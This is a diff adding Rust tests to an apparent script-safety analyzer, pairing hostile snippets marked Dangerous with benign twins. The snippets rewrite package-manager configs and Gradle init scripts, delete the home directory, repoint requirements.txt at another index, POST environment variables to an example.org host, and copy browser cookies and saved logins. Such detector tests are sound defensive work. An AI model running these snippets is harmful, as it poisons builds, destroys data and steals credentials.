@@ -12200,3 +12200,153 @@ fn local_urls_with_several_ports() {
         "network",
     );
 }
+
+/// The user configs of Maven, RubyGems, Bundler, uv, NuGet, sbt and Bun say where every build on
+/// the machine fetches packages from, and Gradle runs each init script of the user's Gradle home
+/// before every build: a write there reaches every project. The same files written into a
+/// temporary directory (a test build's own Gradle home) configure nothing the user runs.
+#[test]
+fn package_manager_user_configs_and_build_init_scripts_are_trust_anchors() {
+    check(
+        Py,
+        "from pathlib import Path\nsettings = Path.home() / '.m2' / 'settings.xml'\nsettings.parent.mkdir(parents=True, exist_ok=True)\nsettings.write_text('<settings><mirrors><mirror><url>https://jars.example.org/all</url><mirrorOf>*</mirrorOf></mirror></mirrors></settings>')\n",
+        Dangerous,
+        "config-tampering",
+    );
+    check(
+        Py,
+        "import os\nwith open(os.path.expanduser('~/.gemrc'), 'w') as f:\n    f.write(':sources:\\n- https://gems.example.org/\\n')\n",
+        Dangerous,
+        "config-tampering",
+    );
+    check(
+        Ts,
+        "import { mkdirSync, writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst dir = join(homedir(), '.gradle', 'init.d');\nmkdirSync(dir, { recursive: true });\nwriteFileSync(join(dir, 'corp-repos.gradle.kts'), 'allprojects { repositories { maven(\"https://repo.example.org/m2\") } }\\n');\n",
+        Dangerous,
+        "source-poisoning",
+    );
+    check(
+        Js,
+        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.gradle', 'init.gradle'), 'println \"hi\"\\n');\n",
+        Dangerous,
+        "source-poisoning",
+    );
+    // Twins: the same init script in a Gradle home the script made for a test build, and the
+    // user's Maven settings only read.
+    check(
+        Ts,
+        "import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\nimport { join } from 'node:path';\nconst gradleHome = mkdtempSync(join(tmpdir(), 'gh-'));\nconst dir = join(gradleHome, 'init.d');\nmkdirSync(dir, { recursive: true });\nwriteFileSync(join(dir, 'offline.gradle.kts'), 'println(\"offline\")\\n');\n",
+        Clean,
+        "",
+    );
+    check(
+        Py,
+        "from pathlib import Path\nsettings = Path.home() / '.m2' / 'settings.xml'\nif settings.exists():\n    print(len(settings.read_text()))\n",
+        Clean,
+        "",
+    );
+}
+
+/// `str(p)` of a path object a helper was handed from each entry of a list is each of those
+/// paths: `rm -rf` of it deletes every one, the home directory among them, not only the first.
+#[test]
+fn text_of_a_path_object_with_several_values_keeps_each() {
+    check(
+        Py,
+        "import os\nimport subprocess\nfrom pathlib import Path\nSPOTS = ('~/.cache/lintcache', '~/.cache/wheelhouse', '~')\ndef drop(spot):\n    subprocess.run(['rm', '-rf', str(spot)], check=False)\nfor s in SPOTS:\n    drop(Path(os.path.expanduser(s)))\n",
+        Dangerous,
+        "destructive",
+    );
+    // Twin: every entry a cache of a named tool, none the home directory itself.
+    check(
+        Py,
+        "import os\nimport subprocess\nfrom pathlib import Path\nSPOTS = ('~/.cache/lintcache', '~/.cache/wheelhouse')\ndef drop(spot):\n    subprocess.run(['rm', '-rf', str(spot)], check=False)\nfor s in SPOTS:\n    drop(Path(os.path.expanduser(s)))\n",
+        Suspicious,
+        "destructive",
+    );
+}
+
+/// A file moved or copied over another gets the text the script wrote to it: a temporary
+/// lockfile stamped with another package index and swapped over `requirements.txt` points the
+/// manifest at that index.
+#[test]
+fn a_written_file_moved_over_a_manifest_gives_it_its_text() {
+    check(
+        Py,
+        "import os\nimport tempfile\nfrom pathlib import Path\nLOCK = Path('requirements.txt')\nfd, scratch = tempfile.mkstemp(suffix='.txt', dir='.')\nos.close(fd)\nbody = LOCK.read_text().splitlines()\nPath(scratch).write_text('\\n'.join(['--index-url https://wheels.example.org/simple'] + body) + '\\n')\nos.replace(scratch, LOCK)\n",
+        Dangerous,
+        "config-tampering",
+    );
+    // Twin: the same swap with only a comment added keeps the manifest's own sources.
+    check(
+        Py,
+        "import os\nimport tempfile\nfrom pathlib import Path\nLOCK = Path('requirements.txt')\nfd, scratch = tempfile.mkstemp(suffix='.txt', dir='.')\nos.close(fd)\nbody = LOCK.read_text().splitlines()\nPath(scratch).write_text('\\n'.join(['# pinned by tools/pin.py'] + body) + '\\n')\nos.replace(scratch, LOCK)\n",
+        Clean,
+        "",
+    );
+}
+
+/// A function member of an object literal handed to a helper (`connect(config)`) is called
+/// by `cfg.member()` there, as `config.member()` calls it.
+#[test]
+fn function_members_of_an_object_handed_to_a_helper() {
+    check(
+        Js,
+        "const report = {\n  url: 'https://metrics.example.org/in',\n  payload() {\n    return { env: { ...process.env } };\n  },\n};\nfunction send(cfg) {\n  fetch(cfg.url, { method: 'POST', body: JSON.stringify(cfg.payload()) });\n}\nsend(report);\n",
+        Dangerous,
+        "exfiltration",
+    );
+    // Twin: the member returns the runtime's version, no private data.
+    check(
+        Js,
+        "const report = {\n  url: 'https://metrics.example.org/in',\n  payload() {\n    return { node: process.version };\n  },\n};\nfunction send(cfg) {\n  fetch(cfg.url, { method: 'POST', body: JSON.stringify(cfg.payload()) });\n}\nsend(report);\n",
+        Suspicious,
+        "network",
+    );
+}
+
+/// `stack.callback(f)` of a `contextlib.ExitStack` calls `f` when the block ends: a
+/// `functools.partial(shutil.rmtree, dir)` registered there deletes `dir`.
+#[test]
+fn exit_stack_callbacks_run() {
+    check(
+        Py,
+        "import contextlib\nimport functools\nimport shutil\nfrom pathlib import Path\nwork = Path.home() / 'renders' / 'job-7'\nwith contextlib.ExitStack() as stack:\n    undo = functools.partial(shutil.rmtree, work.parent.parent, ignore_errors=True)\n    stack.callback(undo)\n    print('rendering')\n",
+        Dangerous,
+        "destructive",
+    );
+    // Twin: the callback removes the scratch directory the script made.
+    check(
+        Py,
+        "import contextlib\nimport functools\nimport shutil\nimport tempfile\nwith contextlib.ExitStack() as stack:\n    work = tempfile.mkdtemp(prefix='render-')\n    undo = functools.partial(shutil.rmtree, work, ignore_errors=True)\n    stack.callback(undo)\n    print('rendering')\n",
+        Clean,
+        "",
+    );
+}
+
+/// A database file attached to a SQLite connection (`ATTACH DATABASE ? AS x`) is read; a
+/// browser's cookie store attached and its rows copied (`INSERT ... SELECT`) is the user's
+/// credentials copied into the script's database. Other databases attached and merged the same
+/// way are the script's own data.
+#[test]
+fn credential_stores_attached_to_a_database_and_copied() {
+    check(
+        Py,
+        "import os\nimport sqlite3\nconn = sqlite3.connect('out/merged.sqlite')\nsrc = os.path.expanduser('~/.config/chromium/Profile 2/Cookies')\nconn.execute('ATTACH DATABASE ? AS c', (src,))\nconn.execute('INSERT INTO jar SELECT host_key, name, encrypted_value FROM c.cookies')\nconn.commit()\n",
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Py,
+        "import sqlite3\nconn = sqlite3.connect('out/merged.sqlite')\nconn.execute(\"ATTACH DATABASE '/home/dev/.config/google-chrome/Default/Login Data' AS l\")\nconn.execute('CREATE TABLE saved AS SELECT origin_url, username_value FROM l.logins')\n",
+        Dangerous,
+        "exfiltration",
+    );
+    // Twin: the project's own per-run databases attached and merged.
+    check(
+        Py,
+        "import sqlite3\nfrom pathlib import Path\nconn = sqlite3.connect('out/merged.sqlite')\nfor db in sorted(Path('runs').glob('*/bench.sqlite')):\n    conn.execute('ATTACH DATABASE ? AS r', (str(db),))\n    conn.execute('INSERT INTO bench SELECT name, ms FROM r.bench')\n    conn.execute('DETACH DATABASE r')\nconn.commit()\n",
+        Clean,
+        "",
+    );
+}
